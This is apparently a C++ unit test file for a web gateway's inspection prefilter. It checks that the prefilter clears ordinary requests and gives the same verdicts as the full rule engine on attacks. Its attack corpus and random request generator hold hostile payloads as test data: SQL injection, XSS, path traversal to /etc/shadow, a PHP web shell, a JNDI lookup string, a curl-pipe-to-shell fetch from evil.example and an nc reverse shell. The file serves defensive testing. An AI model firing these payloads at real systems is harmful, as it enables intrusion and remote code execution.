// The inspection prefilter (issue 14 part 4): ordinary requests skip the engine, and the
// detection is the same both ways: every attack of the corpus gets the same verdict,
// alerts and score with the prefilter as without it, and no request the prefilter clears
// would have raised an alert in the engine (also on thousands of generated requests).
#include <map>
#include <memory>
#include <random>
#include <set>

#include "gateway/inspection/inspector.h"
#include "tests/gateway_unit/inspection_fixture.h"
#include "tests/gateway_unit/stage_fixture.h"

using namespace nanbyo;
using namespace nanbyo::gw;

namespace {

std::shared_ptr<const policy::Policy> policy_prefiltered(bool prefilter, int level) {
  return testing::policy_with(
      "inspection:\n  paranoia_level: " + std::to_string(level) +
      "\n  prefilter: " + std::string(prefilter ? "true" : "false") + "\n  local_rules: " +
      (testing::kSource / "packaging/inspection/japanese-text.conf").string() + R"(
routes:
  - {listener: hospital, path_prefix: /, upstream: appcore}
)");
}

struct BothWays {
  std::shared_ptr<const policy::Policy> with_policy, without_policy;
  std::shared_ptr<const Inspector> with, without;

  explicit BothWays(int level)
      : with_policy(policy_prefiltered(true, level)),
        without_policy(policy_prefiltered(false, level)) {
    auto a = Inspector::build(*with_policy);
    auto b = Inspector::build(*without_policy);
    INFO((a ? std::string() : a.error().message) << (b ? std::string() : b.error().message));
    REQUIRE(a);
    REQUIRE(b);
    with = *a;
    without = *b;
  }
  InspectionResult prefiltered(const Request& r) const {
    return with->inspect(r, "127.0.0.1:40000", &with_policy->routes[0]);
  }
  InspectionResult engine(const Request& r) const {
    return without->inspect(r, "127.0.0.1:40000", &without_policy->routes[0]);
  }
};

const BothWays& both(int level = 1) {
  static std::map<int, std::unique_ptr<BothWays>> built;
  auto& slot = built[level];
  if (!slot) slot = std::make_unique<BothWays>(level);
  return *slot;
}

std::set<std::string> rule_ids(const InspectionResult& result) {
  std::set<std::string> out;
  for (const auto& alert : result.alerts) out.insert(alert.rule_id);
  return out;
}

std::string describe(const Request& r) {
  std::string out = std::string(r.method_string()) + " " + std::string(r.target());
  for (const auto& f : r)
    out += " | " + std::string(f.name_string()) + ": " + std::string(f.value());
  return out;
}

// A browser's request for a page or an asset of the web UI.
Request browser(const std::string& target) {
  Request r{http::verb::get, target, 11};
  r.set(http::field::host, "gw.example.jp");
  r.set(http::field::user_agent,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Safari/537.36");
  r.set(http::field::accept,
        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8");
  r.set(http::field::accept_language, "ja,en-US;q=0.9,en;q=0.8");
  r.set(http::field::accept_encoding, "gzip, deflate, br");
  r.set(http::field::cookie, "nanbyo_session=Q2hlY2tlZC1ieS10aGUtZ2F0ZXdheQ; ui=ja");
  r.set(http::field::connection, "keep-alive");
  return r;
}

}  // namespace

TEST_CASE("ordinary requests skip the engine, attacks and oddities do not", "[prefilter]") {
  testing::require_crs();
  const auto& b = both();
  for (const std::string target : {"/", "/forms/list?page=2&sort=created", "/static/app.css",
                                   "/static/app.js", "/doctors/12/designation", "/1k.bin"}) {
    INFO(target);
    auto result = b.prefiltered(browser(target));
    CHECK(result.inspected);
    CHECK(result.prefiltered);
    CHECK(result.alerts.empty());
  }
  Request bare{http::verb::get, "/1k.bin", 11};  // the benchmark's request
  bare.set(http::field::host, "localhost");
  bare.set(http::field::user_agent, "mtls_load");
  CHECK(b.prefiltered(bare).prefiltered);
  // Each of these can alert (or cannot be modelled without its decoding): the engine runs.
  std::vector<Request> not_cleared;
  not_cleared.push_back(browser("/?q=" + testing::url_encode("<script>alert(1)</script>")));
  not_cleared.push_back(browser("/search?q=" + testing::url_encode("山田 太郎")));
  not_cleared.push_back(browser("/backup.bak"));  // 920440 restricted extension
  not_cleared.push_back(browser("/?a=1%27%20OR%201=1"));
  auto numeric_host = browser("/");
  numeric_host.set(http::field::host, "127.0.0.1");  // 920350
  not_cleared.push_back(numeric_host);
  auto scanner = browser("/");
  scanner.set(http::field::user_agent, "sqlmap/1.6");  // 913100
  not_cleared.push_back(scanner);
  auto proxy_header = browser("/");
  proxy_header.set("Proxy", "evil.example");  // 920450 restricted header
  not_cleared.push_back(proxy_header);
  Request put{http::verb::put, "/x", 11};  // 911100 method not allowed
  put.set(http::field::host, "gw.example.jp");
  not_cleared.push_back(put);
  Request with_body = testing::form_post("/forms/1/edit", "comment", "経過良好");
  not_cleared.push_back(with_body);
  for (const auto& r : not_cleared) {
    INFO(describe(r));
    CHECK_FALSE(b.prefiltered(r).prefiltered);
  }
}

TEST_CASE("the attack corpus gets the same verdicts with the prefilter as without", "[prefilter]") {
  testing::require_crs();
  const auto& b = both();
  const std::vector<std::string> payloads = {
      "1' OR '1'='1' -- ",
      "1 UNION SELECT username, password FROM users",
      "'; DROP TABLE patients; --",
      "<script>alert(document.cookie)</script>",
      "<img src=x onerror=alert(1)>",
      "javascript:alert(1)",
      "../../../../etc/passwd",
      "....//....//etc/shadow",
      "; cat /etc/passwd",
      "$(curl http://evil.example/x.sh | sh)",
      "| nc -e /bin/sh 10.0.0.1 4444",
      "<?php system($_GET['c']); ?>",
      "${jndi:ldap://evil.example/a}",
      "java.lang.Runtime.getRuntime().exec('id')",
      "O:8:\"stdClass\":1:{s:1:\"a\";}",
      "_$$ND_FUNC$$_function(){}",
      "http://10.0.0.1/shell.txt?",
  };
  std::vector<Request> requests;
  for (const auto& p : payloads) {
    requests.push_back(testing::get("/?q=" + testing::url_encode(p)));
    requests.push_back(testing::form_post("/forms/1/edit", "comment", p));
    auto in_cookie = browser("/");
    in_cookie.set(http::field::cookie, "x=" + testing::url_encode(p));
    requests.push_back(in_cookie);
    auto in_agent = browser("/");
    in_agent.set(http::field::user_agent, p);
    requests.push_back(in_agent);
  }
  // Plain-looking attacks the prefilter reads without any decoding.
  for (const std::string target :
       {"/?cmd=cat+/etc/passwd", "/?file=/etc/passwd", "/?q=union+select+password+from+users",
        "/?x=document.cookie", "/?a=sleep(5)", "/admin/.env", "/index.php?x=phpinfo()"}) {
    requests.push_back(browser(target));
  }
  for (const auto& r : requests) {
    INFO(describe(r));
    const auto with = b.prefiltered(r);
    const auto without = b.engine(r);
    CHECK(with.blocked == without.blocked);
    CHECK(rule_ids(with) == rule_ids(without));
    CHECK(with.anomaly_score == without.anomaly_score);
    if (!without.alerts.empty()) CHECK_FALSE(with.prefiltered);
  }
}

namespace {

// Requests combined at random from pieces of ordinary and hostile ones (a fixed seed: the
// same requests on every run); returns how many the prefilter cleared, each checked
// against the engine.
std::size_t check_generated(const BothWays& b, int count) {
  const std::vector<std::string> segments = {
      "forms",  "list",  "app.css",    "a.b",       "..",           ".",   "etc",
      "passwd", "x.php", "~",          "index.php", "wp-login.php", "a;b", "(x)",
      "a-b_c",  "v1",    "backup.sql", "%2e%2e",    "A%20B",        "%00"};
  const std::vector<std::string> names = {"q", "page", "id", "cmd", "file", "sort", "a[]", "x y"};
  const std::vector<std::string> values = {"1",    "abc",         "select",       "union+select+1",
                                           "1'",   "\"x\"",       "<b>",          "a--b",
                                           "%27",  "/etc/passwd", "a;id",         "$(x)",
                                           "`id`", "or+1=1",      "..",           "a|b",
                                           "{}",   "x=y",         "javascript:x", "ok"};
  const std::vector<std::pair<std::string, std::string>> headers = {
      {"Referer", "https://gw.example.jp/forms/list"},
      {"Referer", "http://evil.example/?q=<script>"},
      {"Cookie", "nanbyo_session=abcDEF123; ui=ja"},
      {"Cookie", "a=1; b=' or 1=1"},
      {"X-Forwarded-For", "10.0.0.1"},
      {"Range", "bytes=10-5"},
      {"Content-Type", "application/x-www-form-urlencoded; charset=utf-8"},
      {"Content-Type", "text/plain; charset=koi8-r"},
      {"Accept", "*/*"},
      {"Accept", ""},
      {"User-Agent", "curl/7.88.1"},
      {"User-Agent", "Nikto"},
      {"Connection", "keep-alive, close"},
      {"If", "x"},
      {"Content-Length", "0"},
  };
  std::mt19937 random(20261202);
  auto pick = [&](const auto& list) -> const auto& {
    return list[random() % list.size()];
  };
  std::size_t cleared = 0;
  for (int i = 0; i < count; ++i) {
    std::string target;
    for (unsigned n = 1 + random() % 3; n > 0; --n) target += "/" + pick(segments);
    if (random() % 2) {
      target += "?";
      for (unsigned n = 1 + random() % 3; n > 0; --n) {
        target += (target.back() == '?' ? "" : "&") + pick(names) + "=" + pick(values);
      }
    }
    Request r{random() % 10 == 0 ? http::verb::delete_ : http::verb::get, target, 11};
    r.set(http::field::host, random() % 20 == 0 ? "10.1.2.3" : "gw.example.jp");
    if (random() % 4) r.set(http::field::user_agent, "Mozilla/5.0 (X11; Linux x86_64)");
    for (unsigned n = random() % 4; n > 0; --n) {
      const auto& [name, value] = pick(headers);
      r.set(name, value);
    }
    const auto with = b.prefiltered(r);
    if (!with.prefiltered) continue;
    ++cleared;
    const auto without = b.engine(r);
    std::string alerted;
    for (const auto& id : rule_ids(without)) alerted += id + " ";
    INFO(describe(r) << " -> engine alerts " << alerted);
    CHECK(without.alerts.empty());
  }
  return cleared;
}

}  // namespace

TEST_CASE("no generated request the prefilter clears would have alerted", "[prefilter]") {
  testing::require_crs();
  const std::size_t cleared = check_generated(both(), 1500);
  // The prefilter must also clear a fair share, or it is not worth its place.
  CHECK(cleared > 150);
}

TEST_CASE("at paranoia level 2 too, what the prefilter clears would not have alerted",
          "[prefilter]") {
  testing::require_crs();
  // More rules alert on ordinary requests at level 2 (a missing Accept, for one): few are
  // cleared, and none of those may be wrong.
  check_generated(both(2), 600);
}
